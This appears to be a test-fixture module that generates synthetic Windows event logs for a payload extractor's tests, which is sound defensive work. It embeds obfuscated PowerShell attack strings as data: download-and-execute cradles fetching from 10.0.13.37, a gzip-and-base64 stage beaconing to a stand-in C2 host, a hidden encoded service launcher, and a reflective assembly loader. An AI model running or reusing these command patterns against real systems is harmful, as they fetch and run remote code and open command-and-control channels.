/**
 * Generated logs that carry payloads, for the payload extractor's tests: each builder returns
 * the events for our EVTX writer and the exact decoded text the extractor must give back.
 */
import { gzipSync } from 'node:zlib';
import type { EventDescription } from '../../fixtures/evtx-writer/index.js';

export const utf16b64 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
export const utf8b64 = (bytes: string | Uint8Array): string => Buffer.from(bytes).toString('base64');

const HOST = 'WS-PAYLOAD-01';
const sysmon = {
  provider: 'Microsoft-Windows-Sysmon',
  providerGuid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9',
  channel: 'Microsoft-Windows-Sysmon/Operational',
  computer: HOST,
};
const security = {
  provider: 'Microsoft-Windows-Security-Auditing',
  providerGuid: '54849625-5478-4994-A5BA-3E3B0328C30D',
  channel: 'Security',
  computer: HOST,
};
const powershell = {
  provider: 'Microsoft-Windows-PowerShell',
  providerGuid: 'A0C1853B-5C40-4B15-8766-3CF1C58F985A',
  channel: 'Microsoft-Windows-PowerShell/Operational',
  computer: HOST,
};

/** A script of `parts` parts (Windows splits long scripts), whose marker spans a part boundary. */
export function splitScriptBlock(parts = 5): { events: EventDescription[]; text: string; id: string } {
  const id = '6F1A2B3C-4D5E-4F60-8172-93A4B5C6D7E8';
  const lines = Array.from(
    { length: 40 },
    (_, i) => `$buffer${i} = [byte[]](${i}..${i + 7}) # padding line ${i}`,
  );
  lines.splice(
    20,
    0,
    'function Invoke-TaeReflectiveStager { param($Bytes) [Reflection.Assembly]::Load($Bytes) }',
  );
  const text = `${lines.join('\r\n')}\r\n`;
  const cut = text.indexOf('ReflectiveStager') + 5; // the marker is split between two records
  const size = Math.ceil(text.length / parts);
  const bounds = [
    0,
    ...Array.from({ length: parts - 1 }, (_, i) => (i === 1 ? cut : (i + 1) * size)),
    text.length,
  ];
  bounds.sort((a, b) => a - b);
  const pieces = bounds.slice(0, -1).map((b, i) => text.slice(b, bounds[i + 1]));
  const order = [3, 1, 5, 2, 4].filter((n) => n <= parts); // out of order, as merged logs deliver them
  const events = order.map((n, i) => ({
    ...powershell,
    recordId: 100 + n,
    time: `2026-04-02T09:00:0${i}.0000000Z`,
    eventId: 4104,
    level: 5,
    eventData: {
      MessageNumber: { type: 'int32' as const, value: n },
      MessageTotal: { type: 'int32' as const, value: parts },
      ScriptBlockText: pieces[n - 1]!,
      ScriptBlockId: id,
      Path: 'C:\\Users\\Public\\stage.ps1',
    },
  }));
  return { events, text, id };
}

/** `powershell -e` of `powershell -enc` of the final text (two UTF-16LE base64 layers). */
export function doublyEncodedCommand(): { events: EventDescription[]; text: string } {
  const text = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.13.37/tae-double-stage.ps1')";
  const inner = `powershell.exe -NoProfile -enc ${utf16b64(text)}`;
  const commandLine = `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden -e ${utf16b64(inner)}`;
  const event: EventDescription = {
    ...sysmon,
    recordId: 200,
    time: '2026-04-02T09:01:00.0000000Z',
    eventId: 1,
    eventData: {
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: commandLine,
    },
  };
  return { events: [event], text };
}

/** A 4688 command line whose FromBase64String stage is gzip-compressed (IO.Compression.GzipStream). */
export function gzipStage(): { events: EventDescription[]; text: string } {
  const text =
    '$c2 = "tae-gzip-beacon.example"; while ($true) { Invoke-RestMethod -Uri "https://$c2/poll"; Start-Sleep 60 }';
  const b64 = utf8b64(gzipSync(Buffer.from(text)));
  const commandLine = `powershell -c "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${b64}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"`;
  const event: EventDescription = {
    ...security,
    recordId: 300,
    time: '2026-04-02T09:02:00.0000000Z',
    eventId: 4688,
    eventData: {
      NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: commandLine,
    },
  };
  return { events: [event], text };
}

/** A 7045 service whose image path is a `%COMSPEC% … powershell -encodedcommand` launcher. */
export function encodedServiceLauncher(): { events: EventDescription[]; text: string; imagePath: string } {
  const text =
    "$s=New-Object IO.MemoryStream; # tae-service-launcher\r\n$wc=New-Object Net.WebClient; $wc.DownloadData('http://10.0.13.37/a')";
  const imagePath = `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand ${utf16b64(text)}`;
  const event: EventDescription = {
    provider: 'Service Control Manager',
    providerGuid: '555908D1-A6D7-4695-8E1E-26931D2012F4',
    channel: 'System',
    computer: HOST,
    recordId: 400,
    time: '2026-04-02T09:03:00.0000000Z',
    eventId: 7045,
    eventData: {
      ServiceName: 'taesvc',
      ImagePath: imagePath,
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    },
  };
  return { events: [event], text, imagePath };
}

/** A 4104 script block carrying `text` whole (one part). */
export function scriptBlockEvent(
  text: string,
  recordId: number,
  id = `00000000-0000-4000-8000-${String(recordId).padStart(12, '0')}`,
): EventDescription {
  return {
    ...powershell,
    recordId,
    time: '2026-04-02T09:10:00.0000000Z',
    eventId: 4104,
    eventData: {
      MessageNumber: { type: 'int32', value: 1 },
      MessageTotal: { type: 'int32', value: 1 },
      ScriptBlockText: text,
      ScriptBlockId: id,
      Path: '',
    },
  };
}

/** The four stories of acceptance 1, in one log. */
export function payloadLog(): EventDescription[] {
  return [
    ...splitScriptBlock().events,
    ...doublyEncodedCommand().events,
    ...gzipStage().events,
    ...encodedServiceLauncher().events,
  ];
}
